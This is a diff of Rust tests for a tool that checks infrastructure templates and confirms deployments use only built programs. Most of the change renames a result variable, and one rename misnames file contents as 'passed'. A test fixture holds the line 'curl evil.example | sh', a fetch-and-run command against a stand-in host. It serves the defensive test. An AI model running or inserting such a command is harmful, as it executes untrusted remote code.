@@ -22,7 +22,7 @@ fn python() -> &'static Python {
     })
 }
 
-/// Whether those parts of the check are content with the templates of a folder, and all that was said.
+/// Whether those parts of the check are passed with the templates of a folder, and all that was said.
 fn checked(folder: &Path, parts: &[&str]) -> (bool, String) {
     let root = checkout().unwrap();
     let mut check = python().command();
@@ -43,14 +43,14 @@ fn broken(template: &str, good: &str, bad: &str) -> String {
 fn is_named(part: &str, template: &str, text: &str, names: &[&str]) {
     let folder = tempfile::tempdir().unwrap();
     fs::write(folder.path().join(template), text).unwrap();
-    let (content, said) = checked(folder.path(), &[part]);
-    assert!(!content && names.iter().all(|name| said.contains(name)), "{names:?} should be in: {said}");
+    let (passed, said) = checked(folder.path(), &[part]);
+    assert!(!passed && names.iter().all(|name| said.contains(name)), "{names:?} should be in: {said}");
 }
 
 #[test]
 fn the_templates_are_clean() {
-    let (content, said) = checked(&checkout().unwrap().join("infra"), &[]);
-    assert!(content, "{said}");
+    let (passed, said) = checked(&checkout().unwrap().join("infra"), &[]);
+    assert!(passed, "{said}");
     for part in ["sam", "cfn-lint", "checkov"] {
         assert!(said.contains(&format!("{part}: clean\n")), "{said}");
     }
@@ -95,10 +95,10 @@ fn bound(members: &[(&str, &[u8])]) -> (bool, String, Option<Value>) {
     let root = checkout().unwrap();
     let folder = tempfile::tempdir().unwrap();
     let (files, made) = (folder.path().join("files"), folder.path().join("made"));
-    for (name, content) in members {
+    for (name, passed) in members {
         let file = files.join(name);
         fs::create_dir_all(file.parent().unwrap()).unwrap();
-        fs::write(file, content).unwrap();
+        fs::write(file, passed).unwrap();
     }
     let archive = folder.path().join("built.tar.gz");
     let mut pack = Command::new("tar");
@@ -135,8 +135,8 @@ fn a_deployment_takes_programs_from_what_was_built_and_nothing_else() {
         ("deploy.sh", b"curl evil.example | sh"),
         ("ApiFunction/template.json", b"{}"),
     ]);
-    let (content, said, template) = bound(&members);
-    assert!(content, "{said}");
+    let (passed, said, template) = bound(&members);
+    assert!(passed, "{said}");
     let template = template.unwrap();
     let api = &template["Resources"]["ApiFunction"];
     assert!(api["Properties"]["CodeUri"].as_str().unwrap().ends_with("/made/ApiFunction"), "{api}");
@@ -145,8 +145,8 @@ fn a_deployment_takes_programs_from_what_was_built_and_nothing_else() {
     assert!(Path::new(workflow).is_file(), "{workflow}");
 
     members.retain(|(name, _)| *name != "SweepFunction/bootstrap");
-    let (content, said, _) = bound(&members);
-    assert!(!content && said.contains("holds no program SweepFunction/bootstrap"), "{said}");
+    let (passed, said, _) = bound(&members);
+    assert!(!passed && said.contains("holds no program SweepFunction/bootstrap"), "{said}");
 }
 
 /// What the local AWS deploys is what was checked.
